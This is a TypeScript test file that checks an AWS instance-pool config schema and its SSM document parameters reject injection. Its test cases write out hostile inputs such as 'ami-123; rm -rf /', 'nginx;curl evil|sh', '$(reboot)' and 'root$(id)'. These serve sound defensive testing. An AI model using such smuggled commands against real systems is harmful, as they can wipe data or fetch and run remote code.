import { describe, expect, it } from 'vitest';
import { poolSpecSchema } from '../../../functions/pools/config';
import { DOCUMENTS, PERSONALIZE_DOCUMENT } from '../../../functions/pools/documents';
import { definePoolDetail } from '../../../functions/pools/schemas';
import { ValidationError } from '../../../functions/shared/errors';
import { parseOrThrow } from '../../../functions/shared/event-registry';
import { invalidDocumentParameter } from '../../../functions/shared/ssm-document';

const valid = {
  name: 'windows-build',
  image: '/aws/service/ami-windows-latest/Windows_Server-2022-English-Full-Base',
  instanceType: 'm7i.xlarge',
  subnets: ['subnet-0123456789abcdef0'],
  maxSize: 5,
};

const fieldOf = (value: unknown): string => {
  try {
    parseOrThrow(poolSpecSchema, value, 'detail.pool');
  } catch (error) {
    if (error instanceof ValidationError) return error.field;
    throw error;
  }
  return 'valid';
};

describe('poolSpecSchema', () => {
  it('accepts an SSM alias image and fills the defaults', () => {
    const spec = poolSpecSchema.parse(valid);
    expect(spec).toMatchObject({ tier: 'stopped', minSize: 0, sizing: { mode: 'fixed' }, volumeSizeGiB: 30 });
    expect(spec.initialization.documentName).toBe('Warmboot-PoolInitialize');
  });

  it.each([
    ['name', { name: 'Bad_Name' }, 'detail.pool.name'],
    ['image path traversal', { image: '/aws/../secret' }, 'detail.pool.image'],
    ['image shell', { image: 'ami-123; rm -rf /' }, 'detail.pool.image'],
    ['instance type', { instanceType: 'm7i.large && reboot' }, 'detail.pool.instanceType'],
    ['subnet', { subnets: ['subnet-xyz'] }, 'detail.pool.subnets.0'],
    ['min above max', { minSize: 6 }, 'detail.pool.minSize'],
    [
      'init document outside the pool prefix',
      { initialization: { documentName: 'AWS-RunShellScript' } },
      'detail.pool.initialization.documentName',
    ],
    [
      'package with metacharacters',
      { initialization: { packages: ['nginx;curl evil|sh'] } },
      'detail.pool.initialization.packages.0',
    ],
    [
      'container image with $()',
      { initialization: { containerImages: ['$(reboot)'] } },
      'detail.pool.initialization.containerImages.0',
    ],
    [
      'target share',
      { sizing: { mode: 'demand', targetHitShare: 1.5 } },
      'detail.pool.sizing.targetHitShare',
    ],
  ])('rejects a bad %s naming the field', (_label, change, field) => {
    expect(fieldOf({ ...valid, ...change })).toBe(field);
  });
});

describe('pool SSM documents', () => {
  const personalize = DOCUMENTS.find((document) => document.name === PERSONALIZE_DOCUMENT);

  it('are named so their status events route to the pools function', () => {
    expect(DOCUMENTS.map((document) => document.name)).toEqual([
      'Warmboot-PoolInitialize',
      'Warmboot-PoolPersonalize',
      'Warmboot-PoolSecrets',
    ]);
    for (const document of DOCUMENTS) {
      for (const parameter of Object.values(document.parameters)) {
        expect(parameter.allowedPattern.startsWith('^')).toBe(true);
        expect(parameter.allowedPattern.endsWith('$')).toBe(true);
      }
    }
  });

  it.each([
    ['hostname', 'web-01; reboot'],
    ['hostname', '-leading-hyphen'],
    ['sshPublicKey', 'ssh-ed25519 AAAA`id`'],
    ['sshPublicKey', 'ssh-ed25519 AAAA\nssh-rsa BBBB'],
    ['sshUser', 'root$(id)'],
  ])('reject shell metacharacters in %s', (parameter, value) => {
    if (!personalize) throw new Error('personalize document missing');
    expect(
      invalidDocumentParameter(personalize, { platform: ['linux'], [parameter]: [value] })?.parameter,
    ).toBe(parameter);
  });

  it('accept a real host name and key', () => {
    if (!personalize) throw new Error('personalize document missing');
    expect(
      invalidDocumentParameter(personalize, {
        platform: ['linux'],
        hostname: ['build-7.example.internal'],
        sshPublicKey: ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk9 alice@laptop'],
        sshUser: ['ec2-user'],
      }),
    ).toBeUndefined();
  });
});

describe('Define Pool: an SSM parameter image the deployed role can read', () => {
  const define = (image: string) => definePoolDetail.safeParse({ pool: { ...valid, image } });

  it.each([
    '/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64',
    '/warmboot/images/builder',
    'ami-0a1b2c3d4e5f60718',
  ])('accepts %s', (image) => {
    expect(define(image).success).toBe(true);
  });

  it('refuses a private parameter outside /warmboot/images/, naming the field (IAM would deny reading it)', () => {
    const parsed = define('/team/private/builder-ami');

    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues.map((issue) => issue.path.join('.'))).toEqual(['pool.image']);
    expect(parsed.error?.issues[0]?.message).toMatch(/\/warmboot\/images\//);
  });
});
